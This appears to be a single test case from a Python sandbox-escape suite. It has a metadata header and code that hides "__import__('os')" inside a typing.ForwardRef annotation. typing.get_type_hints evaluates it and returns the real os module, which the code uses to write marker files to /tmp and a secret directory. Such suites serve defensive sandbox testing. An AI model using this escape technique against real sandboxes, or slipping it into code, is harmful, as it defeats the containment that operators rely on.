# id: fw17-typehint-eval-write-mark
# category: file-write
# effect: write {MARK} files in /tmp and $HOME with the real os that a forward reference evaluates to (typing.ForwardRef in get_type_hints)
# touches_os: yes
# destructive: no
# fast: no
import typing
def f(x: typing.ForwardRef("__import__('os')")):
    pass
real_os = typing.get_type_hints(f, {})["x"]
for d in ("/tmp", "{SECRET_DIR}"):
    fd = real_os.open(d + "/{MARK}-typehint", real_os.O_WRONLY | real_os.O_CREAT | real_os.O_EXCL, 0o644)
    real_os.write(fd, b"written through a type-hint evaluation\n")
    real_os.close(fd)
print("ESCAPE-RESULT: escaped=file-written-via-type-hint-os")
